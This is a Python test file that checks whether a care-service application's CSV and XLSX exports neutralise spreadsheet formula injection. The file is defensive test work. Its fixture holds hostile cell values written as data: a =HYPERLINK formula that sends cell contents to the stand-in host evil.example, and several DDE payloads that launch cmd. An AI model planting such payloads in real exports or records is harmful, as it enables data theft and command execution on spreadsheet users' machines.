"""Formula-safe exports: names that a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) arrive as text in every
CSV and XLSX export; numbers stay numbers; an export read back in gives the same names."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from begleitservice.accounting.commands import billing_command
from begleitservice.cli.importexport import export_command, import_command
from begleitservice.extensions import db
from begleitservice.models import Senior, Volunteer
from billing.cells import TRIGGERS, neutralise, restore
from billing.exports import Column, write_csv, write_xlsx
from tests.factories import (
    VALID_IKS,
    make_appointment,
    make_pairing,
    make_pflegekasse,
    make_provider,
    make_senior,
    make_volunteer,
)

HOSTILE = {
    "senior_first": '=HYPERLINK("https://evil.example/?d="&A2;"Details")',
    "senior_last": "+1+cmd|' /C calc'!A0",
    "volunteer_first": "@SUM(1+1)*cmd|' /C calc'!A0",
    "volunteer_last": "-2+3+cmd|' /C calc'!A0",
    "kasse": "\t=1+1 Kasse",
    "city": "@Dortmund",
}


def _is_formula_like(text: str) -> bool:
    return isinstance(text, str) and text.startswith(TRIGGERS)


@pytest.fixture
def hostile_month(app_ctx, monkeypatch, tmp_path):
    """October 2026, billed: a senior, a volunteer and a Pflegekasse whose names start formulas."""
    monkeypatch.setitem(app_ctx.config, "NOW", datetime(2026, 11, 20, 9, tzinfo=UTC))
    make_provider()
    kasse = make_pflegekasse(name=HOSTILE["kasse"], ik=VALID_IKS[0], street="Weg 1", postal_code="44269")
    senior = make_senior(
        first_name=HOSTILE["senior_first"],
        last_name=HOSTILE["senior_last"],
        pflegegrad=2,
        pflegekasse=kasse,
        city=HOSTILE["city"],
    )
    volunteer = make_volunteer(
        first_name=HOSTILE["volunteer_first"], last_name=HOSTILE["volunteer_last"], offers_entlastung=True
    )
    pairing = make_pairing(volunteer=volunteer, senior=senior, starts_on=date(2026, 10, 1))
    for day in (5, 12):
        make_appointment(pairing=pairing, on=date(2026, 10, day), status="stattgefunden", actual_minutes=120)
    db.session.commit()
    result = app_ctx.test_cli_runner().invoke(
        billing_command, ["run", "--month", "2026-10", "--out", str(tmp_path / "docs")]
    )
    assert result.exit_code == 0, result.output
    return {"senior": senior, "volunteer": volunteer}


def _csv_cells(raw: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";") for cell in row]


def _xlsx_cells(raw: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(raw)).worksheets[0]  # not data_only: formulas would show as such
    return [cell for row in sheet.iter_rows() for cell in row]


def _check_csv(raw: bytes, expect: list[str]) -> None:
    cells = _csv_cells(raw)
    assert not [cell for cell in cells if _is_formula_like(cell)]
    for name in expect:
        assert any(cell.startswith("'" + name) or ("'" + name) in cell for cell in cells), name


def _check_xlsx(raw: bytes, expect: list[str]) -> None:
    cells = _xlsx_cells(raw)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not [c.value for c in cells if _is_formula_like(c.value)]
    for name in expect:
        found = [c for c in cells if isinstance(c.value, str) and ("'" + name) in c.value]
        assert found and all(c.data_type == "s" for c in found), name


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["hours", "invoices", "allowances"])
def test_every_accounting_download_neutralises_formulas(hostile_month, login, kind, fmt):
    response = login("accounting").get(f"/abrechnung/export/{kind}?monat=2026-10&format={fmt}")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    expect = {
        "hours": [HOSTILE["senior_first"], HOSTILE["kasse"], HOSTILE["volunteer_first"]],
        "invoices": [HOSTILE["senior_first"]],  # no Abtretung: the senior gets the invoice
        "allowances": [HOSTILE["volunteer_first"]],
    }[kind]
    (_check_csv if fmt == "csv" else _check_xlsx)(response.data, expect)
    if fmt == "xlsx" and kind == "hours":
        numbers = [c.value for c in _xlsx_cells(response.data) if c.data_type == "n" and c.value is not None]
        assert 15 in numbers or 15.0 in numbers  # the amount of a two-hour visit stays a number


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_people_exports_neutralise_formulas_and_read_back_the_same(hostile_month, app_ctx, tmp_path, suffix):
    runner = app_ctx.test_cli_runner()
    files = {kind: tmp_path / f"{kind}{suffix}" for kind in ("volunteers", "seniors")}
    for kind, path in files.items():
        result = runner.invoke(export_command, [kind, str(path)])
        assert result.exit_code == 0, result.output
    check = _check_csv if suffix == ".csv" else _check_xlsx
    check(files["volunteers"].read_bytes(), [HOSTILE["volunteer_first"], HOSTILE["volunteer_last"]])
    check(files["seniors"].read_bytes(), [HOSTILE["senior_first"], HOSTILE["senior_last"]])

    senior, volunteer = hostile_month["senior"], hostile_month["volunteer"]
    senior.first_name = volunteer.first_name = "Geändert"
    db.session.commit()
    for kind, path in files.items():
        result = runner.invoke(import_command, [kind, str(path)])
        assert result.exit_code == 0 and "Fehler" not in result.output, result.output
    db.session.expire_all()
    assert db.session.get(Senior, senior.id).first_name == HOSTILE["senior_first"]
    assert db.session.get(Volunteer, volunteer.id).first_name == HOSTILE["volunteer_first"]


COLUMNS = (
    Column("Name", "text", lambda r: r[0], 20),
    Column("Betrag", "money", lambda r: r[1], 10),
    Column("Minuten", "int", lambda r: r[2], 8),
)


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_guarded():
    rows = [("-15", Decimal("-15.00"), -30), ("+49 231 12345", Decimal("2.50"), 0)]
    text = io.BytesIO()
    write_csv(text, COLUMNS, rows)
    lines = text.getvalue().decode("utf-8-sig").splitlines()
    assert lines[1:] == ["'-15;-15,00;-30", "'+49 231 12345;2,50;0"]
    sheet = io.BytesIO()
    write_xlsx(sheet, COLUMNS, rows)
    values = list(openpyxl.load_workbook(sheet).active.iter_rows(min_row=2, values_only=True))
    assert values == [("'-15", -15, -30), ("'+49 231 12345", 2.5, 0)]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1+1"])
def test_neutralise_guards_each_trigger_and_restore_undoes_it(value):
    assert neutralise(value) == "'" + value and restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Anna", "'quoted", "", "1=1", " =1"])
def test_harmless_text_is_left_alone(value):
    assert neutralise(value) == value and restore(value) == value


@pytest.mark.parametrize("value", [Decimal("-1.5"), -3, 2.5, date(2026, 1, 1), None, True])
def test_non_text_values_pass_unchanged(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["volunteers", "seniors"])
def test_the_people_downloads_on_the_page_neutralise_formulas(hostile_month, login, kind, fmt):
    response = login("coordinator").get(f"/daten/{kind}/export.{fmt}")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    expect = {"volunteers": HOSTILE["volunteer_first"], "seniors": HOSTILE["senior_first"]}[kind]
    (_check_csv if fmt == "csv" else _check_xlsx)(response.data, [expect])
